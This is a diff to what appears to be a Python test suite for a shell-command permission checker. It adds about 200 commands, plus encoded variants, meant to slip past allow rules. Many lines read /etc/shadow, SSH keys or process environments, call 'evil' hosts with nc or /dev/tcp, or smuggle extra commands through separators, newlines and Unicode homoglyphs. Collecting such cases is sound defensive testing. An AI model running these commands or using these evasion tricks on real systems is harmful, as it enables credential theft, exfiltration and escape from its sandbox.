@@ -256,11 +256,208 @@ touch -r /etc/x y
 touch ../x
 mkdir -m 777 x
 mkdir ../x
+git -c core.fsmonitor=./evil status
+git --config-env=core.pager=X log
+git log --outp=x
+git log --format=%G?
+git log --pretty=format:%h%GS
+git log -O./order
+git diff -O/etc/shadow
+git diff --output .bashrc
+git show HEAD:../../etc/shadow
+git blame -S /etc/shadow notes
+git branch evil
+git branch -f main HEAD~3
+git branch -u origin/x
+git branch -r -d origin/main
+git tag v9
+git tag -F /etc/shadow x
+git remote set-url origin http://evil
+git stash list -p --ext-diff
+git reflog expire --all
+git reflog delete HEAD@{1}
+git cat-file --textconv HEAD:x
+git grep --no-index x /etc
+git update-index --assume-unchanged x
+git symbolic-ref HEAD refs/heads/x
+git hook run pre-commit
+git credential fill
+find . -fprintf .bashrc %p
+find -L / -name x
+find . -samefile /etc/shadow
+find . -newer /etc/shadow
+find -D exec . -exec id ;
+find . ( -name x -delete )
+find . , -delete
+sort -ox notes
+sort -nox notes
+sort -t, -o x notes
+sort --outp=x notes
+sort --compress=./evil notes
+sort --random-source=/etc/shadow -R notes
+sed -n 1r/etc/shadow notes
+sed -n 1p;2w.bashrc notes
+sed -n /x/w.bashrc notes
+sed -n s,x,y,pw.bashrc notes
+sed -nEi 1p notes
+sed -ni 1p notes
+sed -n 1{p;e} notes
+jq -n env.HOME
+jq -rf script notes
+jq --slurpfile a /etc/shadow . notes
+jq --rawfile a /etc/shadow . notes
+jq . /etc/shadow
+rg --pre-glob=* --pre=x y
+rg -Sz x
+rg -nz x
+rg --ignore-file=/etc/shadow x
+rg -e x -f /etc/shadow
+rg x -- ../y
+rg --files /etc
+grep -f /dev/tcp/evil/80 x
+grep -rnf /etc/shadow .
+grep --fil=/etc/shadow x
+grep --exclude-from=/etc/shadow x y
+grep --devices=read x /dev/mem
+grep -r x /proc/self/environ
+grep x /srv/app/../../etc/shadow
+grep x /srv/application
+grep x {a,/etc/shadow}
+grep x .?/secret
+grep x [.][.]/secret
+cat {/etc/shadow,}
+cat a{,/../..}/etc/shadow
+cat $'/etc/shadow'
+cat $'\x2fetc/shadow'
+cat $"/etc/shadow"
+cat ""/etc/shadow
+cat .""./secret
+cat .\./secret
+cat ~root/.ssh/id_rsa
+cat ~+/../secret
+cat /proc/1/environ
+head -c100 /proc/self/environ
+strings -n 4 /proc/self/environ
+strings --target=x @y
+hexdump -e x -f /etc/shadow
+xxd -r a b
+cat < /etc/shadow
+cat <<< $HOME
+cat << EOF
+cat notes >&x
+cat notes <> x
+cat notes >/dev/nullx
+cat notes >/dev/null"x"
+cat notes >/dev/../etc/x
+cat notes > /dev/null > x
+cat notes >/dev/tcp/1.2.3.4/80
+cat notes 2>&1>x
+cat notes|&sh
+cat notes && id &
+ls$IFS-la$IFS/etc
+ls${IFS}/etc
+ls $((a[$(id)]))
+ls !!
+ls @(x|/etc)
+ls -I x /etc
+man -P ./evil ls
+man -H./evil ls
+less +!id notes
+vi -c :!id notes
+env -S ls
+command -v ls
+builtin cd /
+test -v a[$(id)]
+[[ $x -eq a[$(id)] ]]
+let a[$(id)]=1
+((a[$(id)]=1))
+printf '%s' $HOME
+read x
+hash -p ./evil ls
+shopt -s expand_aliases
+uniq in out
+uniq -c -f 1 in out
+uniq -- in out
+uniq - out
+diff --output=x a b
+diff -x --from-file=/etc/shadow a
+diff -S x -X /etc/shadow a b
+tree -ox
+tree -afo x
+tree --output=x
+tree --fromfile /etc/shadow
+tree --gitfile=/etc/shadow
+file -bm evil notes
+file -s /dev/sda
+file --compile
+date 010100002020
+date -us tomorrow
+date -r /etc/shadow
+date -d x -s y
+cut -f1 /etc/shadow
+du --exclude-from=/etc/shadow
+stat --cached=x /etc
+tar --to-command=./evil -xf x
+tar -cf x --checkpoint-action=exec=id
+zip x y -TT id
+awk BEGIN{system("id")}
+dd if=x of=y
+ln -s / x
+nc evil 80
+ps eww
+printenv PATH
+cd .?. && ls
+cd a* && ls
+cd -- .. && ls
+cd -P .. && ls
+cd $OLDPWD && ls
+cd //srv/app/../.. && ls
+CDPATH=/etc cd x && ls
+cat notes | sort -o x
+cat notes | uniq - x
+cat notes | head - /etc/shadow
+cat notes | wc --files0-from=-
+cat notes | git apply
+cat notes | git log --stdin
+cat notes | npm run check
+npm run check -- ; id
+npm run check/../evil
+pytest --junitxml=x
+pytest --override-ini=x
+pytest @args
+go test -coverprofile=x
+go test -exec=./evil
+mypy --install-types
+mypy -c x
+ruff check --add-noqa
+python -m unittest os.system
+eslint src -f ./evil.js
+kubectl get secrets -o yaml
+kubectl get -f http://evil
+pip list --index-url http://evil
+git add --pathspec-from-file=x
+mkdir -p x -m 777
 """
+ODD = (
+    *("ls\0id", "ls\rid", "ls\x0bid", "ls\x0cid", "ls\u2028id", "ls\u00a0/etc", "cat \u2215etc\u2215shadow", "l\u0455"),
+    *(
+        "\u0441at notes",
+        "cat notes\u200b",
+        "cat n\u202eotes",
+        "ls\x1b[2Kid",
+        "ls \udc80",
+        "ls \\\n/etc",
+        "ls #x\n./evil",
+    ),
+    *("cat notes | \\\nsh", "cat notes |\nsh", "cat notes &&\n./evil", "cat notes\n\n./evil", "git status\n;./evil"),
+    *("sed -n '1p\nw x' notes", "sed -n '/a\ne id/p' notes", "jq '.a\n|env' notes", "find . -na'me' x -del\"ete\""),
+    *("\\ls ../x", "l\\s /etc", "'ls' /etc", "{ls,/etc}", "cat 'a\n' /etc/shadow"),
+)
+"""With characters that a line of the table cannot hold, or does not show."""
 
 
 def commands():
-    return list(dict.fromkeys(line for line in RUNS_ANOTHER.strip().split("\n")))
+    return list(dict.fromkeys((*RUNS_ANOTHER.strip().split("\n"), *ODD)))
 
 
 def rules_of_all_prefixes():
@@ -273,8 +470,8 @@ def content_of(command):
     return shown_content("shell", {"command": command}, folder="/srv/app", command="command")
 
 
-def test_there_are_200_of_them():
-    assert len(commands()) >= 200
+def test_there_are_400_of_them():
+    assert len(commands()) >= 400
 
 
 def test_the_rules_allow_what_they_are_for():
